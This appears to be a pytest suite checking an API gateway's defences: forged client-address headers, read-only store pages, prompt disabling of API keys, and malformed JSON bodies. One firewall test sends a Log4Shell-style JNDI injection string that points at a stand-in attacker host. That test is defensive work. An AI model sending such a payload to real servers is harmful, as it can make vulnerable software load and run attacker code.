"""The gateway believes no client about itself, and refuses what the deployment does not allow."""

import json
import time

import pytest

from tests.deployment import Deployment
from tests.partner import PartnerApi, Trail, eventually, new_agent
from tests.security.wire import Wire

FORGED = "6.6.6.6"
PROMPTLY_SECONDS = 5.0


@pytest.mark.embedded
@pytest.mark.parametrize("names", [["x-forwarded-for"], ["x-forwarded-for"] * 2, ["forwarded"]])
def test_a_client_cannot_forge_the_address_in_its_audit_record(
    front_door: Wire, partner: PartnerApi, names: list[str]
) -> None:
    trail, agent = Trail(partner), new_agent()
    sent = [(name, f"for={FORGED}" if name == "forwarded" else FORGED) for name in names]

    said = front_door.send(
        "GET", "/partner/items", ("x-api-key", partner.key), ("user-agent", agent), *sent
    )

    [line] = trail.of(agent, at_least=1)
    assert said.status == 200
    assert line.record["source_ip"] == "127.0.0.1"


@pytest.mark.embedded
@pytest.mark.parametrize("path", ["/partner/items", "/tap/health"])
def test_a_client_cannot_forge_the_address_in_the_access_log(
    front_door: Wire, deployment: Deployment, path: str
) -> None:
    said = front_door.send("GET", path, ("x-forwarded-for", FORGED), ("user-agent", "suite"))

    lines = eventually(lambda: access_log(deployment, said.headers["x-request-id"]), bool)

    assert [json.loads(line)["ip"] for line in lines] == ["127.0.0.1"]


def access_log(deployment: Deployment, request_id: str) -> list[str]:
    """The lines of every access log for one request."""
    logs = deployment.client("logs")
    found = []
    for page in logs.get_paginator("describe_log_groups").paginate():
        for group in page["logGroups"]:
            events = logs.filter_log_events(
                logGroupName=group["logGroupName"], filterPattern=f'"{request_id}"'
            )["events"]
            found += [event["message"] for event in events if '"ip"' in event["message"]]
    return found


def test_the_firewall_judges_each_value_of_a_repeated_header(
    partner: PartnerApi, front_door: Wire
) -> None:
    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
    attack = ("x-any", "${jndi:ldap://evil.example/a}")
    sent = [("x-api-key", partner.key), ("user-agent", "suite"), attack, ("x-any", "harmless")]

    said = front_door.send("GET", "/partner/items", *sent)

    assert said.status == 403
    assert json.loads(said.body)["error"]["code"] == "request_blocked"


@pytest.mark.parametrize("method", ["PUT", "POST", "DELETE", "PATCH"])
@pytest.mark.parametrize("path", ["/", "/index.html"])
def test_a_page_of_the_store_can_only_be_read(front_door: Wire, path: str, method: str) -> None:
    said = front_door.send(method, path)

    assert said.status == 403
    assert said.is_of_the_cdn


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_a_page_of_the_store_is_read(front_door: Wire, method: str) -> None:
    assert front_door.send(method, "/index.html").status == 200


def test_a_disabled_key_is_refused_and_an_enabled_one_served_again_promptly(
    partner: PartnerApi,
) -> None:
    gateway = partner.deployment.client("apigateway")
    with partner.another_key() as key:
        eventually(lambda: partner.call("GET", "/items", key=key), lambda a: a.status == 200)
        [found] = [
            each["id"]
            for each in gateway.get_api_keys(includeValues=True, limit=500)["items"]
            if each["value"] == key
        ]
        began = time.monotonic()
        switch(gateway, found, "false")
        refused = eventually(
            lambda: partner.call("GET", "/items", key=key), lambda a: a.status == 403
        )
        switch(gateway, found, "true")
        served = eventually(
            lambda: partner.call("GET", "/items", key=key), lambda a: a.status == 200
        )

    assert (refused.status, refused.error["code"]) == (403, "forbidden")
    assert served.status == 200
    assert time.monotonic() - began < PROMPTLY_SECONDS or partner.deployment.home is None


def switch(gateway: object, key_id: str, enabled: str) -> None:
    """Switch an API key off or on, and see that the API says so."""
    patch = [{"op": "replace", "path": "/enabled", "value": enabled}]
    gateway.update_api_key(apiKey=key_id, patchOperations=patch)  # type: ignore[attr-defined]
    told = gateway.get_api_key(apiKey=key_id)["enabled"]  # type: ignore[attr-defined]
    assert told is (enabled == "true")


@pytest.mark.parametrize(
    "item", [b'{"id": "\\"", "x": 1}', b'{"a\\"b": []}', b'["\\""]', b'{"id": 1}', b'"']
)
def test_no_body_breaks_the_gateways_answer(partner: PartnerApi, item: bytes) -> None:
    said = partner.call("POST", "/items", item=item)

    assert said.status == 400
    assert said.error["code"] == "invalid_request"
